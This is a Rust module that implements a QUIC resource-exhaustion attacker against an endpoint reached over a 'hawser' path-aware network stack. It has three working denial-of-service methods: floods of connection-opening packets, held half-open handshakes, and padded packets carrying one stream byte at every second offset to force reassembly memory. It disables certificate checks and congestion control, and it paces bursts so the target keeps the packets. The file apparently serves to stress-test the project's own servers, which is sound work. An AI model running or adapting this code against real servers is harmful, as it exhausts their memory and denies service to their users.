//! A peer that tries to make an endpoint keep much memory for few bytes.

use std::any::Any;
use std::error::Error;
use std::io;
use std::num::NonZeroUsize;
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use bytes::BytesMut;
use hawser_endhost::socket::{Arrival, ReceiveBuffer, Socket};
use hawser_endhost::{Endhost, Headers, Path, ScionAddr};
use hawser_keys::Identity;
use hawser_quic::AnyPeer;
use noq_proto::congestion::{Controller, ControllerFactory};
use noq_proto::crypto::rustls::QuicClientConfig;
use noq_proto::{
    ClientConfig, Connection, ConnectionError, ConnectionHandle, DatagramEvent, Dir, Endpoint,
    EndpointConfig, Event, FourTuple, TransportConfig, WriteError,
};

/// Packets sent in a row, and the pause after them: a receiver that is overrun keeps nothing.
const BURST: u64 = 32;
const PAUSE: Duration = Duration::from_micros(500);
/// Longest wait for an answer in a handshake.
const ANSWER: Duration = Duration::from_secs(5);
/// Longest wait for the first answer to a packet that begins a connection: a server without room for
/// it does not answer.
const FIRST_ANSWER: Duration = Duration::from_millis(50);
/// Interval at which it is looked for answers.
const TICK: Duration = Duration::from_millis(1);
/// Connections in a row that may fail: a server that is busy, or has enough of them, takes others later.
const FAILURES: u32 = 20;
/// QUIC's smallest packet, which every path takes, in bytes.
const PACKET: u16 = 1200;

/// What an attack has come to.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Outcome {
    /// Packets sent after handshakes, or that begin connections.
    pub packets: u64,
    /// Connections that were set up.
    pub connections: u64,
    /// Those that the peer did not take, or answered too late.
    pub failed: u64,
    /// Those that were set up and that the peer has closed.
    pub closed: u64,
    /// The code of the latest such close, if the application gave one.
    pub code: Option<u64>,
    /// Its reason.
    pub reason: String,
}

/// Attacks one endpoint over one path.
pub struct Attacker {
    socket: Socket,
    headers: Headers,
    alpn: Vec<u8>,
    buffer: ReceiveBuffer,
    scratch: Vec<u8>,
}

/// A connection, which knows nothing of paths.
struct Victim {
    endpoint: Endpoint,
    handle: ConnectionHandle,
    connection: Connection,
}

impl Attacker {
    /// Attacks the endpoint at `peer`, which speaks `alpn`, over `path`, from a socket of its own.
    /// Must be called inside a tokio runtime.
    pub fn new(
        host: &Endhost,
        local: std::net::SocketAddr,
        peer: ScionAddr,
        path: &Path,
        alpn: &[u8],
    ) -> Result<Self, Box<dyn Error + Send + Sync>> {
        let socket = Socket::bind(host, Some(local))?;
        Ok(Self {
            headers: Headers::new(socket.local_addr(), peer, path)?,
            socket,
            alpn: alpn.to_vec(),
            buffer: ReceiveBuffer::default(),
            scratch: Vec::new(),
        })
    }

    /// Sends `packets` packets that each begin a connection that nothing follows on.
    pub fn begin(&mut self, packets: u64) -> Result<Outcome, Box<dyn Error + Send + Sync>> {
        let (config, mut outcome) = (self.config()?, Outcome::default());
        while outcome.packets < packets {
            let mut victim = self.dial(config.clone())?;
            self.transmit(&mut victim, |_| true);
            self.pace(&mut outcome);
        }
        Ok(outcome)
    }

    /// Begins `connections` connections, validates its address for each where it is asked to, and lets
    /// nothing follow.
    pub fn hold(&mut self, connections: u64) -> Result<Outcome, Box<dyn Error + Send + Sync>> {
        let (config, mut outcome) = (self.config()?, Outcome::default());
        for _ in 0..connections {
            let mut victim = self.dial(config.clone())?;
            self.transmit(&mut victim, |_| true);
            outcome.packets += 1;
            let began = Instant::now();
            while began.elapsed() < FIRST_ANSWER {
                if self.receive(&mut victim, is_retry) > 0 {
                    self.transmit(&mut victim, |_| true);
                    break;
                }
                thread::sleep(TICK);
            }
        }
        Ok(outcome)
    }

    /// Sends `packets` full packets, each with one byte of a stream, at every second offset, over
    /// connections of new keys: up to `each` packets over one, while it allows more.
    pub fn fragment(
        &mut self,
        packets: u64,
        each: u64,
    ) -> Result<Outcome, Box<dyn Error + Send + Sync>> {
        let mut outcome = Outcome::default();
        let mut failures = 0;
        while outcome.packets < packets {
            let mut victim = match self.connect() {
                Ok(victim) => victim,
                Err(_) if failures < FAILURES => {
                    failures += 1;
                    outcome.failed += 1;
                    continue;
                }
                Err(error) => return Err(error),
            };
            failures = 0;
            outcome.connections += 1;
            let stream = victim.connection.streams().open(Dir::Bi);
            let stream = stream.ok_or("the peer allows no stream")?;
            // Acknowledgements are not read: nothing counts as lost, so nothing is sent again.
            let last = (outcome.packets + each).min(packets);
            while outcome.packets < last {
                match victim.connection.send_stream(stream).write(b"x") {
                    Ok(_) => self.transmit(&mut victim, |_| false),
                    Err(WriteError::Blocked) => break,
                    Err(error) => return Err(error.into()),
                };
                if victim.connection.send_stream(stream).write(b"x").is_err() {
                    break;
                }
                self.transmit(&mut victim, |_| true);
                self.pace(&mut outcome);
            }
            // Its close may be late; the last connection's is waited for.
            let wait = match outcome.packets < packets {
                true => 10 * TICK,
                false => ANSWER,
            };
            let began = Instant::now();
            while !self.is_closed(&mut victim, &mut outcome) && began.elapsed() < wait {
                thread::sleep(TICK);
            }
        }
        Ok(outcome)
    }

    /// Whether the peer has closed the connection, which is counted.
    fn is_closed(&mut self, victim: &mut Victim, outcome: &mut Outcome) -> bool {
        self.receive(victim, |_| true);
        while let Some(event) = victim.connection.poll() {
            if let Event::ConnectionLost { reason } = event {
                outcome.closed += 1;
                outcome.reason = reason.to_string();
                if let ConnectionError::ApplicationClosed(close) = reason {
                    outcome.code = Some(close.error_code.into_inner());
                }
                return true;
            }
        }
        false
    }

    fn pace(&self, outcome: &mut Outcome) {
        outcome.packets += 1;
        if outcome.packets.is_multiple_of(BURST) {
            thread::sleep(PAUSE);
        }
    }

    /// The settings of connections with a key of their own.
    fn config(&self) -> Result<ClientConfig, Box<dyn Error + Send + Sync>> {
        let identity = Identity::generate()?;
        let certificate = identity.certificate("hawser")?;
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let mut tls = rustls::ClientConfig::builder_with_provider(Arc::clone(&provider))
            .with_protocol_versions(&[&rustls::version::TLS13])?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AnyPeer::new(provider)))
            .with_client_auth_cert(vec![certificate], identity.private_key())?;
        tls.alpn_protocols = vec![self.alpn.clone()];
        let mut transport = TransportConfig::default();
        transport
            .initial_mtu(PACKET)
            .min_mtu(PACKET)
            .mtu_discovery_config(None)
            .pad_to_mtu(true)
            .send_window(u64::MAX)
            .max_idle_timeout(None)
            .congestion_controller_factory(Arc::new(Unlimited));
        let mut config = ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?));
        config.transport_config(Arc::new(transport));
        Ok(config)
    }

    /// A connection, before its first packet.
    fn dial(&self, config: ClientConfig) -> Result<Victim, Box<dyn Error + Send + Sync>> {
        let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, true);
        let (handle, connection) = endpoint.connect(Instant::now(), config, remote(), "hawser")?;
        Ok(Victim {
            endpoint,
            handle,
            connection,
        })
    }

    /// A connection that is set up.
    fn connect(&mut self) -> Result<Victim, Box<dyn Error + Send + Sync>> {
        let mut victim = self.dial(self.config()?)?;
        let began = Instant::now();
        // A busy server has the address validated first, and drops what it has no place for.
        while began.elapsed() < ANSWER {
            let now = Instant::now();
            if victim
                .connection
                .poll_timeout()
                .is_some_and(|due| due <= now)
            {
                victim.connection.handle_timeout(now);
            }
            self.transmit(&mut victim, |_| true);
            self.receive(&mut victim, |_| true);
            while let Some(event) = victim.connection.poll() {
                match event {
                    Event::ConnectionLost { reason } => return Err(reason.into()),
                    Event::Connected => {
                        self.transmit(&mut victim, |_| true);
                        // Until the server has confirmed the handshake.
                        thread::sleep(10 * TICK);
                        self.receive(&mut victim, |_| true);
                        self.transmit(&mut victim, |_| true);
                        return Ok(victim);
                    }
                    _ => {}
                }
            }
            thread::sleep(TICK);
        }
        Err("no answer".into())
    }

    /// Sends the packets of `victim` that `passes` lets through; the others are lost.
    fn transmit(&mut self, victim: &mut Victim, passes: impl Fn(&[u8]) -> bool) {
        let mut packet = Vec::new();
        let one = NonZeroUsize::MIN;
        let now = Instant::now();
        while let Some(transmit) = victim.connection.poll_transmit(now, one, &mut packet) {
            while passes(&packet) {
                let sent = self.socket.try_send(
                    &self.headers,
                    &packet,
                    transmit.size,
                    0,
                    &mut self.scratch,
                );
                match sent {
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => thread::sleep(TICK),
                    _ => break,
                }
            }
            packet.clear();
        }
    }

    /// Takes in what has arrived for `victim` that `passes` lets through. Returns the number of packets
    /// that have arrived.
    fn receive(&mut self, victim: &mut Victim, passes: impl Fn(&[u8]) -> bool) -> usize {
        let (mut response, mut arrived) = (Vec::new(), 0);
        while self.socket.try_receive(&mut self.buffer).is_ok() {
            for arrival in self.socket.packets(&mut self.buffer) {
                let Arrival::Datagram(datagram) = arrival else {
                    continue;
                };
                arrived += 1;
                // After a close comes a stateless reset, with which the protocol would forget the reason.
                if !passes(datagram.payload) || victim.connection.is_closed() {
                    continue;
                }
                let path = FourTuple::from_remote(remote());
                let data = BytesMut::from(datagram.payload);
                let now = Instant::now();
                let event = (victim.endpoint).handle(now, path, None, data, &mut response);
                if let Some(DatagramEvent::ConnectionEvent(handle, event)) = event
                    && handle == victim.handle
                {
                    victim.connection.handle_event(event);
                }
                while let Some(event) = victim.connection.poll_endpoint_events() {
                    if let Some(event) = victim.endpoint.handle_event(victim.handle, event) {
                        victim.connection.handle_event(event);
                    }
                }
                response.clear();
            }
        }
        arrived
    }
}

/// Whether a packet is a Retry (RFC 9000, 17.2.5).
fn is_retry(packet: &[u8]) -> bool {
    packet.first().is_some_and(|first| first & 0xf0 == 0xf0)
}

/// The peer's address as QUIC sees it.
fn remote() -> std::net::SocketAddr {
    ([192, 0, 2, 1], 4242).into()
}

/// Sends whatever there is to send.
#[derive(Debug, Clone)]
struct Unlimited;

impl ControllerFactory for Unlimited {
    fn build(self: Arc<Self>, _: Instant, _: u16) -> Box<dyn Controller> {
        Box::new(Self)
    }
}

impl Controller for Unlimited {
    fn on_congestion_event(&mut self, _: Instant, _: Instant, _: bool, _: bool, _: u64, _: u64) {}

    fn on_mtu_update(&mut self, _: u16) {}

    fn window(&self) -> u64 {
        1 << 40
    }

    fn initial_window(&self) -> u64 {
        1 << 40
    }

    fn clone_box(&self) -> Box<dyn Controller> {
        Box::new(self.clone())
    }

    fn into_any(self: Box<Self>) -> Box<dyn Any> {
        self
    }
}
